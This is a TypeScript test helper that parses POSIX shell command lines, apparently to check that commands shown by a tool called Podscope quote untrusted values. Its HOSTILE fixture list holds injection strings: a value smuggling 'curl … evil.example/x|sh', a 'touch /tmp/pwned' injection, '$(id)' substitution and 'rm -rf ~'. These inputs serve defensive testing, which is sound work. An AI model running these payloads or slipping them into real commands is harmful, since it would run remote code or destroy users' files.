// A POSIX shell's reading of a command line, for tests of the commands Podscope shows: words
// (with which characters were quoted), and the unquoted operators and expansions a shell would act
// on (; | & < > ( ) ` $ and newlines). Comments are skipped as a shell skips them.
export interface ShellWord {
  text: string;
  quoted: boolean[];
}
export interface ShellParse {
  words: ShellWord[];
  /** unquoted operators and expansions, in order */ ops: string[];
}

const OPERATORS = new Set([';', '|', '&', '<', '>', '(', ')', '`', '\n']);

export function parseShell(cmd: string): ShellParse {
  const words: ShellWord[] = [];
  const ops: string[] = [];
  let cur: ShellWord | undefined;
  const add = (ch: string, quoted: boolean) => {
    cur ??= { text: '', quoted: [] };
    cur.text += ch;
    cur.quoted.push(quoted);
  };
  const end = () => {
    if (cur) words.push(cur);
    cur = undefined;
  };
  for (let i = 0; i < cmd.length; i++) {
    const ch = cmd[i];
    if (ch === "'") {
      const close = cmd.indexOf("'", i + 1);
      if (close < 0) throw new Error(`unterminated single quote in ${cmd}`);
      cur ??= { text: '', quoted: [] }; // '' is an (empty) word
      for (const c of cmd.slice(i + 1, close)) add(c, true);
      i = close;
    } else if (ch === '"') {
      cur ??= { text: '', quoted: [] };
      for (i++; i < cmd.length && cmd[i] !== '"'; i++) {
        if (cmd[i] === '\\' && '$`"\\\n'.includes(cmd[i + 1] ?? '')) add(cmd[++i], true);
        else if (cmd[i] === '$' || cmd[i] === '`') {
          ops.push(cmd[i]);
          add(cmd[i], false);
        } else add(cmd[i], true);
      }
      if (i >= cmd.length) throw new Error(`unterminated double quote in ${cmd}`);
    } else if (ch === '\\') {
      add(cmd[++i] ?? '', true);
    } else if (ch === ' ' || ch === '\t') {
      end();
    } else if (ch === '#' && !cur) {
      const nl = cmd.indexOf('\n', i);
      i = nl < 0 ? cmd.length : nl - 1; // a comment runs to the end of the line
    } else if (OPERATORS.has(ch)) {
      end();
      ops.push(ch);
    } else {
      if (ch === '$') ops.push('$');
      add(ch, false);
    }
  }
  end();
  return { words, ops };
}

/** Every occurrence of `value` inside the words is made of quoted characters only. */
export function onlyQuoted(p: ShellParse, value: string): boolean {
  if (value === '') return true;
  return p.words.every((w) => {
    for (let at = w.text.indexOf(value); at >= 0; at = w.text.indexOf(value, at + 1)) {
      if (w.quoted.slice(at, at + value.length).some((q) => !q)) return false;
    }
    return true;
  });
}

export const HOSTILE = [
  'evil.example/app;curl${IFS}-s${IFS}evil.example/x|sh;echo:1.0',
  "x';touch${IFS}/tmp/pwned;'",
  'a"$(id)"`id`&&b||c>d<e\\f',
  'new\nline;rm${IFS}-rf${IFS}~',
  '',
  "'",
  '#comment',
];
